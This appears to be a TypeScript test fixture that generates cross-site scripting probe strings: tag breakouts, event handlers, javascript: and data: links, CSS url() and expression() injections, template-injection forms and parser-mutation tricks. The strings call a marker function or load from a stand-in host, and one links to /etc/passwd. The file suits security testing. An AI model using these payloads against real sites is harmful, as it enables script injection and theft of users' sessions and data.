/**
 * Strings that call `trap(1)`, or ask an address under `trap.example`, wherever a page takes them for markup, script, style
 * or an address. Each is one line of at most 200 characters.
 */

const call = 'trap(1)';
const address = '//trap.example/x';

const breakouts = [
  ...['', '">', "'>", '</title>', '</style>', '</script>', '</textarea>', '-->', ']]>', '\\">'],
  ...['</svg>', '<!--', '</template>', '</noscript>', '"/>'],
];
const elements = [
  `<script>${call}</script>`,
  `<script src=${address}></script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src=javascript:${call}>`,
  `<object data=${address}>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<style>@import "${address}";</style>`,
  `<link rel=stylesheet href=${address}>`,
  `<base href=${address}/>`,
  `<form action=${address}><input autofocus onfocus=${call}>`,
];
const inBreakouts = breakouts.flatMap((opening) => elements.map((element) => opening + element));

const handlers = ['onclick', 'onmouseover', 'onfocus', 'onerror', 'onload', 'onanimationstart'];
const attributes = handlers.flatMap((handler) => [
  `" ${handler}=${call} x="`,
  `' ${handler}='${call}`,
  `x\` ${handler}=${call} `,
]);

const schemes = [
  ...['file:///', 'blob:', 'ftp://trap.example/', 'about:', 'view-source:', 'feed:javascript:'],
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    ' javascript:',
    '&#106;avascript:',
    'vbscript:',
  ],
  ...[
    'data:text/html,<script>',
    'data:image/svg+xml,<svg onload=',
    'javascript&colon;',
    'x-javascript:',
  ],
];
const links = schemes.flatMap((scheme) => [
  `${scheme}${call}`,
  `[link](${scheme}${call})`,
  `![image](${scheme}${call})`,
  `<a href="${scheme}${call}">x</a>`,
]);

const markdown = [
  `[x](https:${address} "onmouseover=${call}")`,
  `![x](https:${address})`,
  `![x](http:${address})`,
  `[x](http:${address})`,
  `[x](file:///etc/passwd)`,
  `<https:${address}>`,
  `[a]: javascript:${call}`,
  `[a](https://user:${call}@trap.example)`,
  `**<img src=x onerror=${call}>**`,
  `| <svg onload=${call}> |`,
  `\`<script>${call}</script>\``,
  `# <script>${call}</script>`,
];
const styles = [
  `red;background:url(${address})`,
  `url(${address})`,
  `expression(${call})`,
  `}body{background:url(${address})}`,
  `#fff;--x:url(${address})`,
  `@import '${address}'`,
  `Inter;src:url(${address})`,
  `</style><script>${call}</script>`,
  `calc(1px);behavior:url(${address})`,
];
const scripts = [
  `\${${call}}`,
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `';${call};'`,
  `";${call};"`,
  `\\';${call}//`,
  `</script><script>${call}//`,
  `1;${call}`,
  `eval('${call}')`,
  `{b|${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `function(){${call}}`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
];
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<a href="#" onclick="${call}">x`,
  `<x contenteditable onblur=${call}>x`,
  `<marquee onstart=${call}>`,
  `<video><source onerror=${call}>`,
  `<input type=image src=x onerror=${call}>`,
  `<isindex action=javascript:${call}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/>`,
  `<embed src=${address}>`,
  `<img src=${address}>`,
  `<img srcset=${address}>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<img/src=x/onerror=${call}>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
];

export const xssVectors: readonly string[] = [
  ...new Set(
    [...inBreakouts, ...attributes, ...links, ...markdown, ...styles, ...scripts, ...mutations].map(
      (vector) => vector.replaceAll('\t', ' ').slice(0, 200),
    ),
  ),
];
